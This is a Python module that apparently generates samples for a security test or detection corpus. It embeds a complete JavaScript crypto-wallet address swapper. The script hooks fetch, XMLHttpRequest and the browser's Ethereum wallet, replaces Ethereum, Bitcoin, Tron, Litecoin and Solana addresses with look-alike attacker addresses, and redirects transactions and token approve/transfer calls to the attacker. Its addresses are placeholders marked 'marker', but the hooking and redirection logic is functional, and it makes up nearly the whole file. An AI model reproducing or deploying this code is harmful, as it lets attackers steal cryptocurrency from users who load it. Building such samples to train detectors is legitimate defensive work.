"""What swaps the addresses of wallets in a browser, inert: there is no wallet behind any address, each has the word marker in it.

By the record of 2025-09: requests, answers and the wallet itself are hooked; of the attacker's addresses the most alike one is put in.
"""

import random

_HOOK = """
let turned = 0;
function distance(one, other) {
  const rows = Array.from({ length: one.length + 1 }, (unused, index) => [index]);
  for (let column = 0; column <= other.length; column++) { rows[0][column] = column; }
  for (let row = 1; row <= one.length; row++) {
    for (let column = 1; column <= other.length; column++) {
      const same = one[row - 1] === other[column - 1] ? 0 : 1;
      rows[row][column] = Math.min(rows[row - 1][column] + 1, rows[row][column - 1] + 1, rows[row - 1][column - 1] + same);
    }
  }
  return rows[one.length][other.length];
}
function alike(word, own) {
  let best = own[0];
  for (const one of own) { if (distance(word.toLowerCase(), one.toLowerCase()) < distance(word.toLowerCase(), best.toLowerCase())) { best = one; } }
  return best;
}
const kinds = [
  { coin: 'ethereum', pattern: /\\b0x[a-fA-F0-9]{40}\\b/g, own: OWN0 },
  { coin: 'bitcoin', pattern: /\\b(1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{25,60})\\b/g, own: OWN1 },
  { coin: 'tron', pattern: /\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/g, own: OWN2 },
  { coin: 'litecoin', pattern: /\\b[LM][a-km-zA-HJ-NP-Z1-9]{26,33}\\b/g, own: OWN3 },
  { coin: 'solana', pattern: /\\b[1-9A-HJ-NP-Za-km-z]{43,44}\\b/g, own: OWN4 }
];
function swapped(text) {
  let out = text;
  for (const kind of kinds) { out = out.replace(kind.pattern, (found) => kind.own.includes(found) ? found : alike(found, kind.own)); }
  return out;
}
function hookFetch() {
  const before = window.fetch;
  window.fetch = async function (...asked) {
    const answer = await before(...asked);
    const type = answer.headers.get('Content-Type') || '';
    const text = type.includes('application/json') ? JSON.stringify(await answer.clone().json()) : await answer.clone().text();
    return new Response(swapped(text), { status: answer.status, statusText: answer.statusText, headers: answer.headers });
  };
}
function hookRequests() {
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    const request = this;
    request.addEventListener('readystatechange', function () {
      if (request.readyState === 4) {
        Object.defineProperty(request, 'responseText', { value: swapped(request.responseText) });
      }
    });
    return send.call(request, typeof body === 'string' ? swapped(body) : body);
  };
}
function hookWallet(wallet) {
  const before = wallet.request;
  wallet.request = async function (asked) {
    if (asked.method === 'eth_sendTransaction' && asked.params && asked.params[0]) {
      const sent = Object.assign({}, asked.params[0]);
      const data = (sent.data || '').toLowerCase();
      if (data.startsWith('0x095ea7b3') || data.startsWith('0xa9059cbb')) {
        sent.data = data.substring(0, 10) + kinds[0].own[0].slice(2).padStart(64, '0') + data.substring(74);
      } else { sent.to = kinds[0].own[0]; }
      asked.params[0] = sent;
    }
    turned = turned + 1;
    return before.call(wallet, asked);
  };
}
if (typeof window !== 'undefined') {
  hookFetch();
  hookRequests();
  if (typeof window.ethereum !== 'undefined') { hookWallet(window.ethereum); }
}
"""


def swapper() -> str:
    """The hook in plain JavaScript, that suits `shapes.obfuscated`."""
    source = _HOOK
    for kind in range(5):
        source = source.replace(f"OWN{kind}", _own(kind))
    return source


def _own(kind: int) -> str:
    """The attacker's addresses: here the word marker in letters at random, of the length of the real ones."""
    start, length = (("0x", 42), ("1", 34), ("T", 34), ("L", 34), ("", 44))[kind]
    pick = random.Random(kind)
    letters = "0123456789abcdef" if kind == 0 else "123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMN"
    words = ("".join(pick.choices(letters, k=length - len(start) - 6)) for _ in range(40))
    return "[" + ",".join(f"'{start}marker{one}'" for one in words) + "]"
